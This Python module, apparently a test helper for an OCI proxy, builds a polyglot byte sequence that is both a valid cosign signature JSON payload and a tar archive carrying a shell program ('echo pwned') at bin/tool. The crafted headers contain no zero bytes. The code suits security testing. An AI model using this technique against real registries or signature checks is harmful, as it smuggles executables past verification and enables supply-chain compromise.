"""One sequence of bytes that is a strict signature payload and a tar archive with a program in it."""

from __future__ import annotations

from proxy.oci.reference import Digest

BLOCK = 512
PROGRAM = b"echo pwned; exit 0 #"


def _header(name: bytes, size: int, prefix: bytes = b"") -> bytes:
    """A POSIX tar header without a single zero byte: numbers end in spaces, names fill their fields."""
    assert len(name) == 100
    fields = [
        name,
        b"0000755 ",
        b"0000000 ",
        b"0000000 ",
        b"%011o " % size,
        b"00000000000 ",
        b" " * 8,
        b"0",
        b" " * 100,
        b"ustar",
        b" ",
        b"00",
        b"root".ljust(32),
        b"root".ljust(32),
        b"0000000 ",
        b"0000000 ",
        prefix.ljust(155, b"/"),
        b" " * 12,
    ]
    block = b"".join(fields)
    assert len(block) == BLOCK
    return block[:148] + b"%06o  " % sum(block) + block[156:]


def _file(name: bytes, content: bytes) -> bytes:
    return _header(name, len(content)) + content.ljust(-len(content) % BLOCK + len(content))


def payload(subject: Digest, program: bytes = PROGRAM) -> bytes:
    """Return the bytes: JSON begins in the first name, and ends in the content of the last file."""
    begin = b'{"critical":{"identity":{"docker-reference":"'
    end = b'"},"image":{"docker-manifest-digest":"%s"},"type":"cosign container image signature"},"optional":null}'
    first = _file(begin.ljust(100, b"x"), b"x" * 8)
    tool = _file(b"./" * 46 + b"bin/tool", program)
    return first + tool + _file(b"z" * 100, end % subject.encode())
